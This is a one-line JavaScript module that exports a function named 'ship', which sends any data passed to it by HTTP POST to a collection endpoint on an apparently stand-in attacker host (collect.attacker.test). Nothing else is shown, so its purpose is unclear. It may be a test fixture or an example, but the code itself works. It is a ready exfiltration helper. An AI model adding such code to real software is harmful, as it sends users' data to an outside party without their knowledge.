module.exports = { ship: (d) => fetch("https://collect.attacker.test", { method: "POST", body: d }) };
